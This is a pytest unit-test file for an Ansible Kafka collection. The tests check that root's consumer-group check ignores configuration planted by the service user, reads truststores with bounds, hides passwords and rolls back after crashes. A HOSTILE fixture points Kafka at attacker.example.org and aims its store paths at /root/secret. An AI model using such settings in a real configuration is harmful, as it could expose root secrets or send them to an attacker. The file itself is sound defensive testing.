# Copyright (c) 2026 the hopsworks.kafka authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The consumer group is checked with what root knows; nothing that a user of the host wrote is followed."""

from __future__ import annotations

import os
import pathlib
import signal
import time
import typing as t

import pytest
from ansible_collections.hopsworks.kafka.plugins.module_utils._brokers import consumer_groups
from ansible_collections.hopsworks.kafka.plugins.module_utils._brokers.consumer_groups import ConsumerGroup
from ansible_collections.hopsworks.kafka.plugins.module_utils._common.errors import InputError
from ansible_collections.hopsworks.kafka.plugins.module_utils._kafka.declaration import KafkaDeclaration
from ansible_collections.hopsworks.kafka.plugins.module_utils._onlinefs import options
from ansible_collections.hopsworks.kafka.plugins.module_utils._onlinefs.transaction import RolledBack

from tests.unit.kafka import pki
from tests.unit.onlinefs.support import Home, Service

TLS = {"bootstrap.servers": "declared:1", "security.protocol": "SSL"}
#: Each makes a client open a file, run something or connect to somewhere.
HOSTILE = """\
bootstrap.servers = attacker.example.org:1
security.protocol = SASL_SSL
sasl.mechanism = OAUTHBEARER
sasl.oauthbearer.token.endpoint.url = http://attacker.example.org/
sasl.oauthbearer.assertion.file = /root/secret
ssl.truststore.location = /root/secret
ssl.keystore.location = ${file:/root/secret:key}
group.id = onlinefs_rondb
client.id = onlinefs_h1_1
"""


class Asked:
    """Stands in for the check by Kafka, and keeps the clients that it was asked with."""

    def __init__(self, joined: bool | None = True) -> None:
        self.joined = joined
        self.clients: list[KafkaDeclaration] = []
        self.client_ids: list[str] = []

    def __call__(self, client: KafkaDeclaration, group: str, client_id: str, _seconds: float) -> ConsumerGroup:
        self.clients.append(client)
        self.client_ids.append(client_id)
        return ConsumerGroup(group, client_id, self.joined, "why", partitions=1)


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> Asked:
    made = Asked()
    monkeypatch.setattr(consumer_groups, "wait_for_member", made)
    return made


class Altering(Service):
    """A service whose user replaces its own configuration as soon as it is restarted."""

    def restart(self) -> None:
        super().restart()
        (self._home / "etc/onlinefs-kafka.properties").write_text(HOSTILE)


def test_the_desired_configuration_is_checked_and_not_what_is_live_after_the_restart(home: Home, asked: Asked) -> None:
    home.run(
        Altering(home.path), properties=TLS, truststore={"content": pki.authority().pem}, verify_consumer_group="auto"
    )
    [client] = asked.clients
    assert client.properties["bootstrap.servers"] == "declared:1" and asked.client_ids == ["onlinefs_h1_1"]
    assert client.truststore and not any("assertion" in name or "location" in name for name in client.properties)


def test_the_configuration_from_before_the_first_run_is_not_followed(home: Home, asked: Asked) -> None:
    (home.etc / "onlinefs-kafka.properties").write_text(HOSTILE)
    result = home.run(verify_consumer_group="required")
    assert result["health"]["group"]["joined"]
    result = home.run(state="reverted", verify_consumer_group="auto")
    assert len(asked.clients) == 1
    assert result["health"]["group"]["joined"] is None and "root does not follow it" in result["warnings"][-1]


def test_after_a_rollback_what_somebody_else_wrote_is_not_followed(home: Home, asked: Asked) -> None:
    (home.etc / "onlinefs-kafka.properties").write_text(HOSTILE)
    asked.joined = False
    with pytest.raises(RolledBack, match="the service works with it") as caught:
        home.run(verify_consumer_group="required")
    assert len(asked.clients) == 1 and caught.value.second is None


def test_after_a_rollback_the_kept_configuration_is_checked(home: Home, asked: Asked) -> None:
    home.run(properties={"bootstrap.servers": "first:1"}, verify_consumer_group="auto")
    asked.joined = False
    with pytest.raises(RolledBack, match="does not work with it either"):
        home.run(properties={"bootstrap.servers": "second:1"}, verify_consumer_group="auto")
    assert [client.properties["bootstrap.servers"] for client in asked.clients] == ["first:1", "second:1", "first:1"]
    assert asked.client_ids == ["onlinefs_h1_1", "onlinefs_h1_2", "onlinefs_h1_1"]


def test_a_host_that_needs_no_change_is_checked_also_where_its_past_is_lost(home: Home, asked: Asked) -> None:
    home.run()
    for path in home.state.rglob("*"):
        if path.is_file():
            path.unlink()
    for path in sorted(home.state.rglob("*"), reverse=True):
        path.rmdir()
    result = home.run(health_check="always", verify_consumer_group="auto")
    assert not result["changed"] and result["health"]["group"]["joined"] and len(asked.clients) == 1


def test_stores_come_from_the_configuration_and_not_from_the_host(
    home: Home, asked: Asked, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The store on the host is a pipe by then."""

    class Piped(Service):
        def restart(self) -> None:
            super().restart()
            for store in (self._home / "etc").glob("*.jks"):
                store.unlink()
                os.mkfifo(store)

    home.run(
        Piped(home.path), properties=TLS, truststore={"content": pki.authority().pem}, verify_consumer_group="auto"
    )
    assert asked.clients[0].truststore


@pytest.mark.parametrize("kind", ["pipe", "endless", "missing"])
def test_a_store_of_somebody_else_is_read_with_a_bound(home: Home, asked: Asked, kind: str) -> None:
    """A path in the declaration: the service's user may have placed anything there."""
    store = home.path / "ca.jks"
    if kind == "pipe":
        os.mkfifo(store)
    elif kind == "endless":
        store.symlink_to("/dev/zero")
    declared = {**TLS, "ssl.truststore.location": str(store), "ssl.truststore.password": "changeit"}
    result = home.run(properties=declared, verify_consumer_group="auto")
    group = result["health"]["group"]
    assert group["joined"] is None and str(store) in group["reason"] and not asked.clients


@pytest.mark.parametrize("kind", ["pipe", "endless"])
def test_a_store_for_remote_src_is_read_with_a_bound(home: Home, tmp_path: pathlib.Path, kind: str) -> None:
    path = tmp_path / "ca.pem"
    if kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    with pytest.raises(InputError, match=rf"truststore {path}: not a regular file"):
        home.run(properties=TLS, truststore={"path": str(path), "remote_src": True})
    assert not home.state.exists()


def test_a_reason_from_kafka_is_shown_without_secrets(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(_client: KafkaDeclaration, group: str, client_id: str, _seconds: float) -> ConsumerGroup:
        return ConsumerGroup(group, client_id, False, "login with the-canary-password refused")

    monkeypatch.setattr(consumer_groups, "wait_for_member", refused)
    jaas = (
        'org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="the-canary-password";'
    )
    declared = {
        "bootstrap.servers": "k:1",
        "security.protocol": "SASL_PLAINTEXT",
        "sasl.mechanism": "PLAIN",
        "sasl.jaas.config": jaas,
    }
    with pytest.raises(RolledBack, match=r"login with \*+ refused"):
        home.run(properties=declared, verify_consumer_group="auto")


def test_a_crash_while_the_group_is_checked_rolls_back(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    before = home.files()

    def broken(*_arguments: object) -> t.NoReturn:
        raise RuntimeError("canary")

    monkeypatch.setattr(consumer_groups, "wait_for_member", broken)
    with pytest.raises(RolledBack, match=r"defect in hopsworks\.kafka: RuntimeError") as caught:
        home.run(verify_consumer_group="auto")
    assert home.files() == before and "canary" not in str(caught.value)


@pytest.mark.parametrize("blow", [signal.SIGKILL, signal.SIGSEGV, signal.SIGABRT])
def test_a_child_that_dies_while_it_checks_the_group_rolls_back(
    home: Home, monkeypatch: pytest.MonkeyPatch, blow: signal.Signals
) -> None:
    """librdkafka runs in a child of its own; the stand-in for it ends that child as a crash does."""
    before, modes, here = home.files(), home.modes(), os.getpid()

    def crash(*_arguments: object) -> None:
        assert os.getpid() != here
        os.kill(os.getpid(), blow)

    monkeypatch.setattr(consumer_groups.BrokerClient, "of", crash)
    with pytest.raises(RolledBack, match=rf"librdkafka crashed \({blow.name}\)") as caught:
        home.run(verify_consumer_group="auto")
    assert caught.value.second is None, "the configuration from before works"
    assert (home.files(), home.modes()) == (before, modes)
    assert home.restarts == 2 and not (home.state / "journal.json").exists()


def test_a_child_that_hangs_while_it_checks_the_group_is_not_waited_for(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(consumer_groups.BrokerClient, "of", lambda *_: time.sleep(120))
    monkeypatch.setattr(options.consumer_groups, "available", lambda: True)
    before, began = home.files(), time.monotonic()
    with pytest.raises(RolledBack, match="it could not be checked: Kafka did not answer in time"):
        home.run(verify_consumer_group="required")
    assert time.monotonic() - began < 30 and home.files() == before
